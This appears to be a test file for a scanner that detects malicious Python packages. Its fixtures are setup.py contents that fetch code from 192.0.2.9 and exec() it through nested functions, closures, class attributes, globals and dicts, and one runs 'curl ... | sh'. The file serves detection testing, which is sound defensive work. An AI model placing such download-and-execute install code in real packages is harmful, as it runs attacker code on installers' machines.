import { describe } from "vitest";
import { testChains } from "./chain-of-evidence.ts";

describe("one chain of evidence in one module", () => {
	testChains([
		{
			title: "deep in one module",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import requests\nfrom setuptools import setup\ndef a(x):\n    b(x)\ndef b(y):\n    c(y.strip())\ndef c(z):\n    d(code=z)\ndef d(code=None):\n    e(*[code])\ndef e(q):\n    exec(q)\na(requests.get('http://192.0.2.9/x').text)\nsetup(name='p')\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
		},
		{
			title: "returns at depth in one module",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import requests\nfrom setuptools import setup\ndef a():\n    return b()\ndef b():\n    return c()\ndef c():\n    return d()\ndef d():\n    return requests.get('http://192.0.2.9/x').text\nexec(a())\nsetup(name='p')\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
		},
		{
			title: "closure",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import requests\nfrom setuptools import setup\ndef make(u):\n    code = requests.get(u).text\n    def go():\n        exec(code)\n    return go\nmake('http://192.0.2.9/x')()\nsetup(name='p')\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
		},
		{
			title: "through an attribute of another class",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import requests\nfrom setuptools import setup\nclass S: pass\nclass A:\n    def load(self, s):\n        s.code = requests.get('http://192.0.2.9/x').text\nclass B:\n    def go(self, s):\n        exec(s.code)\ns = S()\nA().load(s)\nB().go(s)\nsetup(name='p')\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
		},
		{
			title: "through a global",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import requests\nfrom setuptools import setup\ncode = None\ndef load():\n    global code\n    code = requests.get('http://192.0.2.9/x').text\ndef go():\n    exec(code)\nload()\ngo()\nsetup(name='p')\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
		},
		{
			title: "through a dict attribute",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import requests\nfrom setuptools import setup\nclass A:\n    def __init__(self):\n        self.d = {}\n    def load(self):\n        self.d['c'] = requests.get('http://192.0.2.9/x').text\n    def go(self):\n        exec(self.d['c'])\na = A()\na.load()\na.go()\nsetup(name='p')\n",
				},
			],
			rule: "execution-of-downloaded",
			path: "setup.py",
		},
		{
			title: "layer uses outer names",
			files: [
				{
					name: "p-1/setup.py",
					content:
						"import os\nfrom setuptools import setup\nu = 'http://192.0.2.9/x'\nexec(\"os.system('curl ' + u + ' | sh')\")\nsetup(name='p')\n",
				},
			],
			rule: "shell-download",
			path: "setup.py",
		},
	]);
});
